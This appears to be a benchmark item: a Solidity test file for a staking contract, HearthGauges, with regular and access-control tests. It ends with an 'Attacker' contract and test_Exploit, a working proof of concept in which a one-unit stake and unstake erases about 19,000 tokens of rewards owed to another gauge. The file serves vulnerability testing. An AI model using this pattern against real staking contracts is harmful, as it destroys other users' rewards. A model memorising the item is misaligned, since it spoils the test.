// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-ab073f4a-f64b-4ec8-bbab-4824dae636c6

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./HearthGauges.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
}

contract Token is ERC20 {
    constructor(string memory n) ERC20(n, n) {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// A villager with one unit.
contract Attacker {
    function poke(HearthGauges gauges, IERC20 ember, uint256 id) external {
        ember.approve(address(gauges), 1);
        gauges.stake(id, 1);
        gauges.unstake(id, 1);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_770_000_000;
    address private constant MAB = address(0x3AB);
    address private constant NED = address(0x2ED);
    address private constant OLA = address(0x01A);
    address private constant PIP = address(0x919);

    Token public ember;
    Token public peat;
    HearthGauges public gauges;
    Attacker public poker;

    function setUp() public {
        vm.warp(START);
        ember = new Token("EMBER");
        peat = new Token("PEAT");
        gauges = new HearthGauges(ember, peat);
        peat.approve(address(gauges), type(uint256).max);
        gauges.give(90_000e18);
        gauges.light(MAB);
        gauges.light(NED);
        _stake(OLA, 0, 300e18);
        _stake(PIP, 1, 100e18);
        gauges.setRate(1e16);
        poker = new Attacker();
        ember.transfer(address(poker), 1);
        vm.warp(START + 30 days);
    }

    function _stake(address who, uint256 id, uint256 amount) private {
        ember.transfer(who, amount);
        vm.startPrank(who);
        ember.approve(address(gauges), amount);
        gauges.stake(id, amount);
        vm.stopPrank();
    }

    function _collect(address keeper, uint256 id) private returns (uint256) {
        vm.prank(keeper);
        return gauges.collect(id);
    }

    function test_Regular() public {
        require(gauges.owed(0) == 19_440e18 && gauges.owed(1) == 6_480e18 && gauges.hearthCount() == 2, "three to one");
        require(_collect(MAB, 0) == 19_440e18 && _collect(NED, 1) == 6_480e18, "collected");
        require(gauges.fund() == 64_080e18 && gauges.owed(0) == 0, "fund");
        _stake(PIP, 1, 100e18);
        vm.prank(OLA);
        gauges.unstake(0, 100e18);
        require(gauges.total() == 400e18 && ember.balanceOf(OLA) == 100e18, "moved");
        vm.warp(START + 31 days);
        require(_collect(MAB, 0) == 432e18 && _collect(NED, 1) == 432e18, "half each");
        vm.prank(NED);
        gauges.hand(1, OLA);
        gauges.setRate(1e18);
        vm.warp(START + 41 days);
        require(_collect(MAB, 0) == 31_608e18 && _collect(OLA, 1) == 31_608e18 && gauges.fund() == 0, "all of it");
        vm.prank(OLA);
        gauges.unstake(0, 200e18);
        vm.prank(PIP);
        gauges.unstake(1, 200e18);
        gauges.give(1e18);
        vm.warp(START + 42 days);
        require(gauges.owed(0) == 0 && gauges.fund() == 1e18, "nothing behind");
        require(gauges.light(PIP) == 2, "third");
        _stake(PIP, 2, 5e18);
        vm.warp(START + 43 days);
        require(_collect(PIP, 2) == 1e18, "alone");
        gauges.transferOwnership(MAB);
        vm.prank(MAB);
        gauges.acceptOwnership();
        vm.prank(MAB);
        gauges.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(OLA);
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, OLA);
        vm.expectRevert(why);
        gauges.light(OLA);
        vm.expectRevert(why);
        gauges.setRate(1);
        vm.expectRevert(abi.encodeWithSelector(HearthGauges.NotKeeper.selector, 0));
        gauges.collect(0);
        vm.expectRevert(abi.encodeWithSelector(HearthGauges.NotKeeper.selector, 0));
        gauges.hand(0, OLA);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        bytes memory zero = abi.encodeWithSelector(HearthGauges.Zero.selector);
        vm.expectRevert(zero);
        gauges.light(address(0));
        vm.expectRevert(zero);
        gauges.give(0);
        vm.startPrank(OLA);
        vm.expectRevert(zero);
        gauges.stake(0, 0);
        vm.expectRevert(abi.encodeWithSelector(HearthGauges.TooMuch.selector, 300e18 + 1, 300e18));
        gauges.unstake(0, 300e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(HearthGauges.TooMuch.selector, 1, 0));
        gauges.unstake(1, 1);
        vm.stopPrank();
        vm.prank(MAB);
        vm.expectRevert(zero);
        gauges.hand(0, address(0));
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "same token"));
        new HearthGauges(ember, ember);
    }

    /// What the first hearth can collect.
    function owedToFirst() public view returns (uint256) {
        return gauges.owed(0);
    }

    function exploit() public {
        poker.poke(gauges, ember, 0);
    }

    function test_Exploit() public {
        uint256 before = owedToFirst();
        exploit();
        require(owedToFirst() + 19_000e18 <= before, "still owed");
    }

    function target() public view returns (address) {
        return address(gauges);
    }

    function attacker() public view returns (address) {
        return address(poker);
    }
}
